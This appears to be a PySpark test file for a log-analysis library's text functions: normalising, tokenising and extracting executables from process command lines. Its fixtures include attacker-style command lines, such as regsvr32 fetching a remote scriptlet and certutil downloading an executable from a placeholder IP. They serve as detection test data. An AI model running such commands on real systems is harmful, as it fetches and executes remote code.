"""Text functions: cases worked out by hand, and properties against the Python standard library.

Rules and token kinds that are restated here as expectations are fixed values.
"""

import ntpath
import random
import re
import shlex

from pyspark.sql import functions as F

from argotlog.functions import keywords as K
from argotlog.functions import patterns as P
from argotlog.functions import text as T


def column_of(spark, values, expression):
    df = spark.createDataFrame(list(enumerate(values)), "i int, c string")
    return [r.out for r in df.select("i", expression(F.col("c")).alias("out")).orderBy("i").collect()]


def test_normalize_cases(spark):
    cases = {
        r"powershell.exe -File C:\Users\Admin\script_12345678.ps1 -IP 192.168.1.1": r"powershell.exe -File C:\Users\Admin\script_12345678.ps1 -IP <IP_ADDRESS>",
        "at 2024-01-15 10:20:30 0xDEADBEEF 1234567": "at <DATE> <TIME> <HEX_CODE> <LONG_NUMBER>",
        "{f81d4fae-7dec-11d0-a765-00a0c91e6bf6}": "<GUID>",
        "hash d41d8cd98f00b204e9800998ecf8427e": "hash <LONG_HEX_STRING>",
        "1.2.3.4:8080": "<IP_ADDRESS>",
        "1.2.3.4:123456": "<IP_ADDRESS>:<LONG_NUMBER>",
        "é123456": "é123456",
        "e\u0301123456": "e\u0301<LONG_NUMBER>",  # a combining mark is no word character
        "\U0001d400123456 \U0001f600123456": "\U0001d400123456 \U0001f600<LONG_NUMBER>",
        "x " + "A1+/" * 15 + "A1==": "x <BASE64_STRING>==",
        "a" + "+" * 60 + "b": "<BASE64_STRING>",
    }
    assert column_of(spark, [*cases, None], T.normalize) == [*cases.values(), ""]


def test_second_pass_changes_nothing(spark):
    rng = random.Random(7)
    pieces = [
        "f81d4fae-7dec-11d0-a765-00a0c91e6bf6", "{", "}", "d41d8cd98f00b204e9800998ecf8427e", "10.0.0.1", ":", "80",
        "123456", "2024-01-01", "10:20:30", "0xff", "A" * 50, "=", "+", "/", "é", "_", "-", ".", " ", "<", ">", "GUID", "0x",
    ]
    texts = ["".join(rng.choices(pieces, k=rng.randint(1, 9))) for _ in range(4000)]
    once = column_of(spark, texts, T.normalize)
    assert column_of(spark, once, T.normalize) == once
    # and the same passes written with Python's own Unicode-aware \b and \d
    python_rules = [
        (r"(?i)\{?[a-f0-9]{8}-([a-f0-9]{4}-){3}[a-f0-9]{12}\}?", "<GUID>"),
        (r"(?i)\b[a-f0-9]{32,}\b", "<LONG_HEX_STRING>"),
        (r"\b[A-Za-z0-9+/=]{50,}\b", "<BASE64_STRING>"),
        (r"\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}(:\d{1,5})?\b", "<IP_ADDRESS>"),
        (r"\b\d{4}-\d{2}-\d{2}\b", "<DATE>"),
        (r"\b\d{2}:\d{2}:\d{2}\b", "<TIME>"),
        (r"(?i)\b0x[a-f0-9]+\b", "<HEX_CODE>"),
        (r"\b\d{6,}\b", "<LONG_NUMBER>"),
    ]

    def expected(text):
        for pattern, placeholder in python_rules:
            text = re.sub(pattern, placeholder, text)
        return text

    assert once == [expected(t) for t in texts]


def test_extra_rules_run_to_the_fixed_point(spark):
    users = P.Rule("user_path", r"(?i)\\Users\\[^\\]+\\", "<USER_PATH>")
    assert column_of(spark, [r"powershell.exe -File C:\Users\Alice\script.ps1"], lambda c: T.normalize(c, [users])) == [
        "powershell.exe -File C:<USER_PATH>script.ps1"
    ]
    halve = P.Rule("blanks", "  ", " ")
    text = "a" + " " * 37 + "b"
    assert column_of(spark, [text, None], lambda c: T.normalize(c, [halve])) == ["a b", ""]
    assert column_of(spark, [text], lambda c: T.normalize(c, [halve], 2)) == ["a" + " " * 10 + "b"]
    grow = P.Rule("grow", "x", "xx")
    assert column_of(spark, ["x", "y", None], lambda c: T.is_unstable(c, [grow], 5)) == [True, False, False]
    assert column_of(spark, ["x"], lambda c: T.normalize(c, [grow], 5)) == ["x" * 32]
    dollar = P.Rule("dollar", "n", "$1\\")
    assert column_of(spark, ["n"], lambda c: T.normalize(c, [dollar], 1)) == ["$1\\"]


def test_tokenize_cases(spark):
    cases = {
        'wmic process call create "notepad.exe"': ["wmic", "process", "call", "create", "notepad.exe"],
        r"C:\Windows\System32\notepad.exe C:\file7482.txt": [r"c:\windows\system32\notepad.exe c", "file7482.txt"],
        r"schtasks.exe /create /tn Task1234 /tr C:\Windows\System32\calc.exe /sc daily": [
            "schtasks.exe", "/create", "/tn", "task1234", "/tr", "c:\\windows\\system32\\calc.exe ", "/sc", "daily",
        ],
        "regsvr32.exe /s /u /i:http://<IP_ADDRESS>/script.sct scrobj.dll": [
            "regsvr32.exe", "/s", "/u", "/i", "http://<ip_address>/script.sct", "scrobj.dll",
        ],
        "foo --mode=fast 10:20 AM": ["foo", "--mode=fast", "10", "20", "am"],
        "foo.shell": ["foo.sh", "ell"],
        "a.b@c.com 01/02/2024": ["a.b@c.com", "01/02/2024"],
        'é"quoted text" \'x y\'': ["é", "quoted", "text", "x y"],
        "": [],
    }
    assert column_of(spark, [*cases, None], T.tokenize) == [*cases.values(), []]


def test_tokenize_agrees_with_python_regex(spark):
    w = r"\w"
    kinds = [
        r"<[a-zA-Z_]+>", r'(?:(?!\b)"[^"]+"|' + r"'[^']+')", r"https?://[^\s\"']+", rf"--?[{w}\-]+=[^\s\"']+",
        rf"[a-zA-Z]:\\(?:[{w}\-.\\ ]+)", rf"/[{w}\-/\.]+", r"\d{1,3}(?:\.\d{1,3}){3}", rf"--?[{w}\-]+",
        rf"[{w}\-.]+\.(?:exe|dll|bat|ps1|txt|sh)", r"[a-zA-Z0-9._%+-]+@[a-zA-Z0-9.-]+\.[a-zA-Z]{2,}", r"0x[a-fA-F0-9]+",
        r"\d{4}-\d{2}-\d{2}", r"\d{2}/\d{2}/\d{4}", r"\d{2}:\d{2}:\d{2}",
        r"[a-fA-F0-9]{8}-[a-fA-F0-9]{4}-[a-fA-F0-9]{4}-[a-fA-F0-9]{4}-[a-fA-F0-9]{12}",
        r"[0-9A-Fa-f]{2}(?::[0-9A-Fa-f]{2}){5}", r"\d{9}-\d{4}", r"\+\d{1,2}-\d{3}-\d{3}-\d{4}", rf"{w}+",
    ]
    python = re.compile("|".join(f"(?:{k})" for k in kinds))
    rng = random.Random(11)
    pieces = [
        "a", "é", "É", "0", "12", "2024-01-15", "10:20:30", "c:\\", "\\x", "/", "-", "--", "=", '"', "'", " ", "\t", "\u00a0",
        "\u2003", "http://h", ".exe", ".txt", "@", ".com", "0x", "ff", "<GUID>", "00:11:22:aa:bb:cc", "+1-800-555-5555",
        "1.2.3.4", "f81d4fae-7dec-11d0-a765-00a0c91e6bf6", "_", ".", "²", "٣", "e\u0301", "\U0001d400", "\U0001f600", "123456789-1234",
    ]
    texts = ["".join(rng.choices(pieces, k=rng.randint(1, 10))) for _ in range(6000)]
    assert column_of(spark, texts, T.tokenize) == [[t.strip("\"'") for t in python.findall(x.lower())] for x in texts]


def test_root_cases(spark):
    cases = {
        r"C:\Program Files\Mozilla Firefox\firefox.exe -url http://example1.com": "firefox.exe",
        r'C:\Program Files\Microsoft Office\Office16\WINWORD.EXE /n "C:\d.docx"': "WINWORD.EXE",
        'wmic process where name="explorer.exe" get commandline': "wmic",
        "certutil -urlcache -f http://1.2.3.4/a.exe out.txt": "a.exe",
        r'"C:\Program Files\x\y.exe" /q': "y.exe",
        r'"C:\a b\y.exe" run.bat': 'y.exe" run.bat',
        'echo "unclosed foo': "echo",
        "": "",
        "  \t ": "",
    }
    assert column_of(spark, [*cases, None], T.root_executable) == [*cases.values(), ""]


def test_root_agrees_with_standard_library(spark):
    rng = random.Random(3)
    pieces = ["a", "B", '"', "'", " ", "\t", "\n", "\\", "/", "C:", ".exe", ".CMD", ".ps1", "é", "\u00a0", "-x", "\\\\srv"]
    texts = ["".join(rng.choices(pieces, k=rng.randint(0, 12))) for _ in range(6000)]

    def expected(text):
        try:
            parts = shlex.split(text, posix=False)
        except ValueError:
            parts = text.split()
        if not parts:
            return ""
        ends = [i for i, p in enumerate(parts) if p.lower().endswith(tuple("." + e for e in P.EXECUTABLE_ENDINGS))]
        program = " ".join(parts[: ends[0] + 1]) if ends else parts[0]
        return ntpath.basename(program.strip('"'))

    assert column_of(spark, texts, T.root_executable) == [expected(t) for t in texts]


def test_basename_agrees_with_standard_library(spark):
    rng = random.Random(5)
    pieces = ["a", "\\", "/", ":", "C:", "srv", ".", "\\\\", "?", "\\\\?\\UNC\\", "\\\\?\\unc\\", "\n", " "]
    texts = ["".join(rng.choices(pieces, k=rng.randint(0, 9))) for _ in range(6000)]
    assert column_of(spark, texts, T.windows_basename) == [ntpath.basename(t) for t in texts]


def test_extract_command_line(spark):
    cases = {
        "Image: x\nCommandLine: cmd.exe /c whoami\nUser: u": "cmd.exe /c whoami",
        "Image: x\r\nCommandLine: cmd.exe /c whoami\r\nUser: u": "cmd.exe /c whoami",
        "Image: x\\nCommandLine: cmd.exe /c whoami\\nUser: u": "cmd.exe /c whoami",
        "Image: x\nCommandLine: cmd.exe /c whoami": None,
        "CommandLine: cmd.exe\nUser: u": None,
        "Image: x\nCommandLine:\nUser: u\n": "",
    }
    assert column_of(spark, [*cases, None], T.extract_command_line) == [*cases.values(), None]


def test_small_text_functions(spark):
    assert column_of(spark, ["hELLO World", "", "é A"], T.capitalize) == ["Hello world", "", "É a"]
    assert column_of(spark, ["c:\\w\\cmd.exe", "x", "WINWORD.EXE"], T.executable_title) == ["Cmd", "X", "Winword.exe"]
    assert column_of(spark, [" \u00a0 a b", "", " "], T.first_word) == ["a", None, None]
    assert column_of(spark, ["\"'a'\"", '"b', "c"], T.strip_quotes) == ["a", "b", "c"]


def test_keyword_search_agrees_with_python_regex(spark):
    words = ["\U0001d400b", "certutil", "certutil.exe", "reg", "reg.exe", "C:\\Program", "{x}", "set", "a-b", "a", "éa", "net use", "=go", "e.x", "-"]
    python = re.compile(r"\b(" + "|".join(re.escape(w) for w in sorted(words)) + r")\b")
    rng = random.Random(13)
    pieces = [*words, " ", "x", "é", "\U0001d400", "\U0001f600", ".exe", "_", "-", "C:", "Files", "REG"]
    texts = ["".join(rng.choices(pieces, k=rng.randint(1, 7))) for _ in range(6000)]
    assert column_of(spark, texts, lambda c: K.keyword_matches(c, words)) == [python.findall(t) for t in texts]
    assert column_of(spark, texts, lambda c: K.contains_keyword(c, words)) == [bool(python.search(t)) for t in texts]


def test_keyword_options(spark):
    assert column_of(spark, ["a", None], lambda c: K.contains_keyword(c, [])) == [False, False]
    assert column_of(spark, ["a"], lambda c: K.keyword_matches(c, [])) == [[]]
    assert column_of(spark, ["REG.EXE x"], lambda c: K.keyword_matches(c, ["reg.exe"], False)) == [["reg.exe"]]
    assert column_of(spark, ["xREGx", "q", None], lambda c: K.mentions_keyword(c, ["reg"])) == [True, False, False]
